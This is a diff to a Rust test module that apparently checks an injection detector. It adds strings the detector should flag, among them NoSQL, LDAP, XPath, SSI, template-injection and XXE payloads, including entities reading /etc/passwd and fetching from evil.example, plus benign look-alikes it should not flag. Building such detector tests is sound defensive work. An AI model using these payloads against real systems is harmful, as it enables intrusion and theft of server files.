@@ -892,6 +892,19 @@ mod tests {
             "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
             "*)(uid=*))(|(uid=*",
             "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            "user[$ne]",
+            "json.password.$regex",
+            "{\"login\":{\"$gt\":null}}",
+            "db.users.insert({a:1});",
+            "<!--#exec cmd=\"ls\" -->",
+            "'+{233*233}+'",
+            "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
+            "admin)(&)",
+            "x' or string-length(name(parent::*))>0 or 'x'='",
+            "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>",
+            "${@print(md5(1))}",
+            "{{['id']|filter('system')}}",
+            "<esi:include src=\"http://evil.example/\"/>",
         ] {
             if !strong(text) {
                 wrong.push(text);
@@ -912,6 +925,12 @@ mod tests {
             "<?xml version=\"1.0\"?><a/>",
             "a:1:b",
             "call system (support) for help",
+            "filters[price][$gte]",
+            "{\"deleted\":{\"$ne\":true},\"tags\":{\"$in\":[1]}}",
+            "query M($where: MemberFilter) { members(where: $where) { id } }",
+            "java.lang.RuntimeException: x = 1",
+            "#{T(java.time.LocalDate).now().dayOfYear}",
+            "our code, which you asked about last week, is: <?php echo $_GET['a']; ?>",
         ] {
             if strong(text) {
                 wrong.push(text);
